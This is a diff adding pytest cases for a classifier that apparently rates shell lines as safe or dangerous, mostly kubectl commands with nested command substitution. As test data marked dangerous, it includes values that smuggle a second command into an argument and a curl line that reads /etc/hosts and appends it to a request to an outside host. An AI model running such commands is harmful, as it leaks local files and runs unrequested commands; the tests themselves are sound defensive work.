@@ -103,3 +103,18 @@ def test_any_other_output_may_be_an_option(line: str) -> None:
 def test_a_folder_with_a_space_in_its_name_becomes_several_words() -> None:
     assert tier("sort $(pwd)", SPACED) is Tier.DANGEROUS
     assert tier('sort "$(pwd)"', SPACED) is Tier.SAFE
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("kubectl logs $(kubectl get pods -l app=web -o name | head -1)", Tier.SAFE),
+        ("kubectl logs $(cat x)", Tier.DANGEROUS),
+        ("kubectl logs x-$(oc get pods -o name)", Tier.DANGEROUS),
+        ("kubectl logs x$Y$(kubectl get pods -o name)", Tier.DANGEROUS),
+        ("curl https://x.example/$(curl -s file:///etc/hosts)", Tier.DANGEROUS),
+        ("kubectl logs x$(kubectl get pods; cat y)", Tier.DANGEROUS),
+    ],
+)
+def test_a_service_may_be_told_what_it_said_itself(line: str, expected: Tier) -> None:
+    assert tier(line) is expected
